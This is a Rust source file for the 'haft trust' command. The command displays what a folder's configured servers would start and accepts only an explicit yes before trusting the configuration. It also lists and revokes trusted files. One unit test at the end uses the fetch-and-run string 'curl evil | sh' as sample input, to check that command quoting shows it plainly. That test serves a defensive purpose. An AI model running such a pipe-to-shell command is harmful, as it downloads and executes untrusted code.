//! `haft trust`: a person looks at what a folder's configuration would start, and decides.

use std::{
    io::{self, BufRead, IsTerminal as _, Write},
    path::{Path, PathBuf},
};

use anyhow::Context as _;
use haft::config::{
    Config, ConfigFile, ConfigOrigin, ConfigServer, ConfigSource, Environment, ServerState, Trust as State,
    TrustStore,
};
use serde::Serialize;

use crate::{
    host::{Exit, Host},
    lines::{self, Line},
    output,
    settings::{Trust, TrustAction},
};

/// Most bytes of an answer.
const MOST_BYTES: u64 = 4096;

pub(super) fn run(settings: &Trust, host: &mut Host) -> anyhow::Result<Exit> {
    let environment = Environment::of_process()?;
    let store = TrustStore::of(&environment)?;
    match settings.action {
        TrustAction::List => list(&store, settings.json, host),
        TrustAction::Revoke => revoke(settings.file.as_deref(), &environment, &store, host),
        TrustAction::Trust { yes } => trust(settings, yes, &environment, &store, host),
    }
}

/// Shows each file that waits, and trusts it where that is wanted.
fn trust(
    settings: &Trust,
    yes: bool,
    environment: &Environment,
    store: &TrustStore,
    host: &mut Host,
) -> anyhow::Result<Exit> {
    let source = settings.file.clone().map_or(ConfigSource::Found, ConfigSource::File);
    let config = Config::load(environment, &source)?;
    let waits = |file: &&ConfigFile| match file.origin {
        ConfigOrigin::Named => config.servers().iter().any(|server| server.file == file.path),
        _ => !file.trust.is_enough(),
    };
    let waiting: Vec<&ConfigFile> = config.files().iter().filter(waits).collect();
    let mut reports = Vec::new();
    for file in &waiting {
        let servers: Vec<&ConfigServer> =
            config.servers().iter().filter(|server| server.file == file.path).collect();
        if !settings.json {
            show(file, &servers, host)?;
            host.stdout.flush()?;
        }
        let trusted = yes || ask(host)?;
        if trusted {
            store.trust(&file.path, file.digest)?;
        }
        reports.push(Report::of(file, trusted, &servers));
    }
    if settings.json {
        output::write_pretty_json(&mut host.stdout, &reports)?;
    }
    for report in &reports {
        let path = report.file.display();
        if report.trusted && !settings.json {
            writeln!(host.stdout, "{} is trusted until it changes", output::line(&path.to_string()))?;
        } else if !report.trusted {
            host.note(format_args!("{path} is not trusted; `haft trust --yes` trusts it without asking"));
        }
    }
    if waiting.is_empty() {
        let waits = match &settings.file {
            Some(file) => format!("{} names no server and needs no trust", file.display()),
            None => "nothing in the working directory waits for trust".to_owned(),
        };
        host.note(waits);
    }
    Ok(Exit::failed_if(reports.iter().any(|report| !report.trusted)))
}

/// What the file would start.
fn show(file: &ConfigFile, servers: &[&ConfigServer], host: &mut Host) -> io::Result<()> {
    let bold = host.heading();
    let path = file.path.display().to_string();
    let (count, s) = (servers.len(), if servers.len() == 1 { "" } else { "s" });
    let changed = if file.trust == State::Outdated { "; it has changed since it was trusted" } else { "" };
    let out = &mut host.stdout;
    writeln!(out, "{bold}{}{bold:#} has {count} server{s}{changed}:", output::line(&path))?;
    for server in servers {
        let off = if matches!(server.state, ServerState::Disabled) { " (off)" } else { "" };
        writeln!(out, "  {bold}{}{bold:#}{off}", output::line(&server.name))?;
        let mut fact = |label: &str, value: &str| writeln!(out, "    {label:7} {}", output::line(value));
        let Some(shown) = &server.shown else {
            let ServerState::Faulty(problem) = &server.state else { continue };
            fact("faulty", &problem.message)?;
            continue;
        };
        let facts = [
            ("starts", command_line(&shown.command)),
            ("asks", shown.url.clone().unwrap_or_default()),
            ("in", shown.cwd.clone().unwrap_or_default()),
            ("gives", shown.env.join(", ")),
            ("sends", shown.headers.join(", ")),
            ("reads", shown.reads.join(", ")),
            (
                "trusts",
                (if shown.trust_annotations { "what it says of its tools' effects" } else { "" }).to_owned(),
            ),
        ];
        for (label, value) in facts.iter().filter(|(_, value)| !value.is_empty()) {
            fact(label, value)?;
        }
    }
    Ok(())
}

/// The words of a command; one that is more than a word is quoted, so that it shows where each ends.
fn command_line(words: &[String]) -> String {
    let is_plain = |c: char| c.is_alphanumeric() || "-_./:=@%+,~$[]{}*".contains(c);
    let quoted = |word: &String| {
        if !word.is_empty() && word.chars().all(is_plain) { word.clone() } else { format!("{word:?}") }
    };
    words.iter().map(quoted).collect::<Vec<_>>().join(" ")
}

/// Asks whoever is at the terminal; nobody says no.
fn ask(host: &mut Host) -> io::Result<bool> {
    if !(io::stdin().is_terminal() && io::stderr().is_terminal()) {
        return Ok(false);
    }
    host.ask("trust it (y/n)? [n] ");
    answer(&mut io::stdin().lock())
}

/// Nothing but a clear yes is one.
fn answer(input: &mut impl BufRead) -> io::Result<bool> {
    Ok(match lines::next(input, MOST_BYTES)? {
        Some(Line::Bytes(bytes)) => matches!(bytes.trim_ascii(), b"y" | b"yes" | b"Y" | b"YES" | b"Yes"),
        _ => false,
    })
}

fn revoke(
    file: Option<&Path>,
    environment: &Environment,
    store: &TrustStore,
    host: &mut Host,
) -> anyhow::Result<Exit> {
    let files: Vec<PathBuf> = match file {
        Some(file) => vec![environment.folder().join(file)],
        None => {
            let trusted = store.list()?.into_iter().map(|trusted| trusted.file);
            let folder =
                environment.folder().canonicalize().context("the working directory can not be found")?;
            trusted.filter(|file| file.parent() == Some(&folder)).collect()
        }
    };
    if files.is_empty() {
        host.note("nothing in the working directory is trusted");
    }
    for file in files {
        let was = if store.revoke(&file)? { "is trusted no more" } else { "was not trusted" };
        writeln!(host.stdout, "{} {was}", output::line(&file.display().to_string()))?;
    }
    Ok(Exit::Success)
}

fn list(store: &TrustStore, json: bool, host: &mut Host) -> anyhow::Result<Exit> {
    let listed: Vec<Listed> = store
        .list()?
        .into_iter()
        .map(|trusted| {
            let state = match trusted.now() {
                State::Given => "trusted",
                State::Outdated => "changed",
                _ => "gone",
            };
            Listed { file: trusted.file, digest: trusted.digest, state }
        })
        .collect();
    if json {
        output::write_pretty_json(&mut host.stdout, &listed)?;
        return Ok(Exit::Success);
    }
    for Listed { file, state, .. } in &listed {
        writeln!(host.stdout, "{state:7}  {}", output::line(&file.display().to_string()))?;
    }
    if listed.is_empty() {
        host.note("no file is trusted");
    }
    Ok(Exit::Success)
}

#[derive(Serialize)]
struct Listed {
    file: PathBuf,
    digest: String,
    state: &'static str,
}

#[derive(Serialize)]
struct Report<'a> {
    file: &'a Path,
    digest: String,
    trusted: bool,
    servers: Vec<ServerReport<'a>>,
}

#[derive(Serialize)]
struct ServerReport<'a> {
    name: &'a str,
    #[serde(flatten)]
    shown: Option<&'a haft::config::ShownServer>,
}

impl<'a> Report<'a> {
    fn of(file: &'a ConfigFile, trusted: bool, servers: &[&'a ConfigServer]) -> Self {
        let servers =
            servers.iter().map(|server| ServerReport { name: &server.name, shown: server.shown.as_ref() });
        Self { file: &file.path, digest: file.digest.to_string(), trusted, servers: servers.collect() }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn nothing_but_a_clear_yes_trusts() {
        for (typed, trusts) in [
            ("y\n", true),
            ("yes\r\n", true),
            (" Y \n", true),
            ("", false),
            ("\n", false),
            ("n\n", false),
            ("yes please\n", false),
            ("\u{feff}y\n", false),
        ] {
            assert_eq!(answer(&mut typed.as_bytes()).expect("memory"), trusts, "{typed:?}");
        }
        let long = "y".repeat(10_000);
        assert!(!answer(&mut long.as_bytes()).expect("memory"));
    }

    #[test]
    fn the_words_of_a_command_show_where_they_end() {
        let words = ["sh", "-c", "curl evil | sh", "", "a\u{1b}b", "${TOKEN}"].map(str::to_owned);
        assert_eq!(command_line(&words), r#"sh -c "curl evil | sh" "" "a\u{1b}b" ${TOKEN}"#);
    }
}
